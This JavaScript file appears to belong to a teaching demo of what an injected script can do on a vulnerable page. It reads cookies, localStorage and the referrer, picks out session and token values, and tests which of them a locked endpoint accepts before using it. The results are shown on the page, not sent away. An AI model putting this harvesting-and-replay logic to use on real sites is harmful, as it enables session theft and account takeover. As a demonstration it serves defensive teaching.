// The stranger's script of the page with a hole: what any script on a page can
// do. It shows what it finds to the reader instead of sending it away.
const { locked } = document.currentScript.dataset;
const show = (id, text) => document.getElementById(id).textContent = text;

const read = {
  "document.cookie": document.cookie,
  "localStorage": { ...localStorage },
  "document.referrer": document.referrer,
};
show("read", JSON.stringify(read, null, 2));

/** The parts of a credential, as the rungs call them. */
function pick(pairs) {
  const values = new Map(pairs);
  const names = ["session_id", "sessionId", "token", "jwt", "access"];
  return [...names, "refresh", "session", "__Host-session"]
    .filter((name) => values.has(name))
    .map((name) => [name, values.get(name)]);
}

const { searchParams } = new URL(document.referrer || location.href);
const found = {
  "document.cookie": pick(document.cookie.split("; ").map((c) => c.split("="))),
  "localStorage": pick(Object.entries(localStorage)),
  "document.referrer": pick([...searchParams]),
};

/** The status of a request with these cookies before those of their name. */
async function sendCookies(pairs) {
  const set = (name, value) =>
    document.cookie = `${name}=${value}; path=${locked}; SameSite=Strict`;
  try {
    for (const [name, value] of pairs) set(name, value);
    return (await fetch(locked)).status;
  } finally {
    for (const [name] of pairs) set(name, "; Max-Age=0");
  }
}

/** The status that these parts of a credential get by themselves. */
async function tryOut(where, pairs) {
  if (where !== "document.cookie") {
    const url = `${locked}?${new URLSearchParams(pairs)}`;
    return (await fetch(url, { credentials: "omit" })).status;
  }
  // If nonsense gets in as well, it's not these cookies that open the lock.
  const nonsense = pairs.map(([name]) => [name, "x"]);
  return await sendCookies(nonsense) === 200 ? 401 : await sendCookies(pairs);
}

async function attack() {
  const whose = [];
  let own = "";
  for (const [where, pairs] of Object.entries(found)) {
    if (pairs.length === 0) continue;
    const status = await tryOut(where, pairs);
    const isOwn = status === 200;
    if (isOwn && where !== "document.cookie") {
      own = `?${new URLSearchParams(pairs)}`;
    }
    const verdict = isOwn
      ? "is this rung's credential: the server takes it alone"
      : status === 401
      ? "belongs to another rung: this one refuses it"
      : "could not be tried now";
    const names = pairs.map(([name]) => name).join(" and ");
    whose.push(`What ${where} has (${names}) ${verdict} (${status}).`);
  }
  show("whose", whose.join(" ") || "It could read no credential.");
  const response = await fetch(locked + own);
  show("used", `${response.status} ${await response.text()}`);
}

attack().catch(() => show("used", "The server could not be reached."));
